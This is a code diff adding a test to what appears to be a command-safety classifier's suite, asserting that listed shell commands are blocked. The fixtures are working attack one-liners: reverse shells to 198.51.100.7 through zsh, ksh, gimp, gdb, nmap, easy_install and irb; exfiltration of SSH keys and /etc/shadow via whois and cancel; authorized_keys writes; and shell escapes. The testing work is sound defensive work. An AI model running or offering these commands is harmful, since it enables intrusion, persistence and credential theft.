@@ -267,3 +267,40 @@ test("shell escapes: reviewed alone, blocked as another user; an everyday sudo i
     "privileged escapes",
   );
 });
+
+test("the same families through other programs, judged by capability and argument shape", () => {
+  expectAll(
+    [
+      "zmodload zsh/net/tcp && ztcp 198.51.100.7 9 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
+      "ksh -c 'ksh -i > /dev/tcp/198.51.100.7/9 2>&1 0>&1'",
+      'gimp -idf --batch-interpreter=python-fu-eval -b \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
+      'echo \'var s=new java.net.Socket("198.51.100.7",9);var p=new java.lang.ProcessBuilder("/bin/sh").start();\' | jjs',
+      "socket -qvp '/bin/sh -i' 198.51.100.7 9",
+      "busybox nc -lp 7000 -e /bin/sh",
+      'gdb -nx -ex \'python import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\' -ex quit',
+      'T=$(mktemp)\necho \'local s=require("socket");local t=s.tcp();t:connect("198.51.100.7",9);while true do local r=t:receive();local f=io.popen(r);t:send(f:read("*a")) end\' > $T\nnmap --script=$T',
+      'D=$(mktemp -d)\necho \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\' > $D/setup.py\neasy_install $D',
+      "irb\nrequire 'socket'; c=TCPSocket.new('198.51.100.7',9); while(l=c.gets); IO.popen(l,'r'){|io| c.print io.read}; end",
+      'whois -h 198.51.100.7 -p 43 "$(cat /root/.ssh/id_rsa)"',
+      'cancel -u "$(cat /etc/shadow)" -h 198.51.100.7:631',
+    ],
+    blocks,
+    "other programs",
+  );
+  expectAll(
+    [
+      "sqlite3 /dev/null -cmd '.output /root/.ssh/authorized_keys' 'select 1;'",
+      "screen -L -Logfile /root/.ssh/authorized_keys echo ssh-rsa AAAA",
+      "diff --line-format=%L /dev/null /etc/shadow",
+      "jq -Rr . /etc/gshadow",
+      "sudo ed /etc/sudoers",
+      "busybox httpd -f -p 8080 -h /",
+      "php -S 0.0.0.0:8080",
+      "vimdiff -c ':!/bin/sh'",
+      "sqlite3 /dev/null '.shell /bin/sh'",
+      "cpan\n! exec '/bin/sh'",
+    ],
+    stops,
+    "other programs",
+  );
+});
